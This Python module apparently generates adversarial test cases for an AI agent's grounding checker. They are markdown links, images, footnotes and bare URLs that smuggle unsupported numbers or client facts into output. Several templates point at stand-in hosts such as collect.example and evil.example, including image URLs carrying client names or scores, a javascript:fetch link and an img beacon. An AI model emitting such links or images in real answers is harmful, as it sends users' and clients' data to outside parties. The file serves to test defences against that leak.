"""Figures, and what leaves the house, in links, images, footnotes and bare addresses."""

from __future__ import annotations

import random

from agent.grounding.attack.model import Attempt, Kinds, forged
from agent.grounding.attack.scene import Scene
from agent.grounding.attack.stage import (
    SCORES,
    carried,
    carry,
    pick,
    spelled,
)

kinds = Kinds()


@kinds.kind("link_target", "a number in a link's address or text")
def link_target(rng: random.Random, scene: Scene) -> Attempt:
    number = str(scene.number(rng, 100, 999))
    text = pick(
        rng, scene, ("отчёт", "карточка клиента", "подробности"), ("report", "client card", "details")
    )
    link = rng.choice(
        (
            f"[{text}](https://example.com/score/{number})",
            f"[{text} {number}](https://example.com/)",
            f'[{text}](https://example.com/?health={number} "{number}")',
            f"[{text}][r]\n\n[r]: https://example.com/{number}",
            f"<https://example.com/{number}>",
        )
    )
    return Attempt(carry(rng, scene, link), forged(number))


@kinds.kind("image_alt", "a number in an image: its text, title or address")
def image_alt(rng: random.Random, scene: Scene) -> Attempt:
    number = str(scene.number(rng, 100, 999))
    word = spelled(rng, scene, int(number))
    image = rng.choice(
        (
            f"![{number}](https://example.com/a.png)",
            f'![chart](https://example.com/a.png "{number}")',
            f"![chart](https://example.com/{number}.png)",
            f"![{word}](a.png)",
        )
    )
    return Attempt(carry(rng, scene, image), forged(number, word, "https://example.com"))


@kinds.kind("bare_url", "an address that carries a number, or carries data out")
def bare_url(rng: random.Random, scene: Scene) -> Attempt:
    number = str(scene.number(rng, 100, 999))
    url = rng.choice(
        (
            f"https://example.com/?h={number}",
            f"http://10.{number}.3.4/x",
            f"example.com/{number}",
            f"https://collect.example.com/?c={scene.ref('client.name')}",
            f"mailto:ceo@example.com?subject={number}",
            f"tel:+7495{number}1122",
        )
    )
    return Attempt(
        carry(rng, scene, url), forged(number, "collect.example.com", f"7495{number}1122", f"10.{number}.3.4")
    )


@kinds.kind("footnote", "a number in a footnote or its mark")
def footnote(rng: random.Random, scene: Scene) -> Attempt:
    number = str(scene.number(rng, 100, 999))
    line = pick(rng, scene, ("Клиент доволен", "Работа идёт"), ("The client is content", "Work goes on"))
    note = pick(rng, scene, ("по данным отдела", "см. отчёт"), ("from the team's data", "see the report"))
    text = rng.choice(
        (
            f"{line}[^n].\n\n[^n]: {note}, {number}",
            f"{line}[^{number}].\n\n[^{number}]: {note}",
            f"{line}.*\n\n* {note}: {number}",
        )
    )
    return Attempt(text, forged(number))


@kinds.kind("foreign_link", "an address that the library does not hold, without any number")
def foreign_link(rng: random.Random, scene: Scene) -> Attempt:
    host = rng.choice(("collect.example", "evil.example", "docs-cdn.example"))
    more = pick(rng, scene, ("подробнее", "отчёт"), ("more", "report"))
    fragment = rng.choice(
        (
            f"[{more}](https://{host}/path)",
            f"<https://{host}/>",
            f"[{more}][x]\n\n[x]: https://{host}/",
            f"www.{host}",
            f"<a href='//{host}/'>{more}</a>",
            f"[{more}](//{host})",
            f"mailto:score@{host}",
            f"[{more}](javascript:fetch('//{host}'))",
            f"![{more}](https://{host}/p.png)",
            f"<img src=https://{host}/p.gif>",
            f"ftp://{host}/",
            f"{host}/path",
            f"hxxps://{host}",
        )
    )
    return carried(rng, scene, fragment, host)


@kinds.kind("fact_in_address", "a fact's reference inside an address that would carry it out")
def fact_in_address(rng: random.Random, scene: Scene) -> Attempt:
    ref = scene.ref(rng.choice((*SCORES, "client.monthly_value", "client.name")))
    more = pick(rng, scene, ("источник", "график"), ("source", "chart"))
    fragment = rng.choice(
        (
            f"![{more}](https://collect.example/p.png?d={ref})",
            f"[{more}](https://collect.example/{ref})",
            f"[{ref}](https://collect.example/)",
            f"https://collect.example/?d={ref}",
            f"[{more}]: https://collect.example/{ref} '{ref}'",
            f'<img src="//collect.example/{ref}">',
        )
    )
    return carried(rng, scene, fragment, "collect.example")
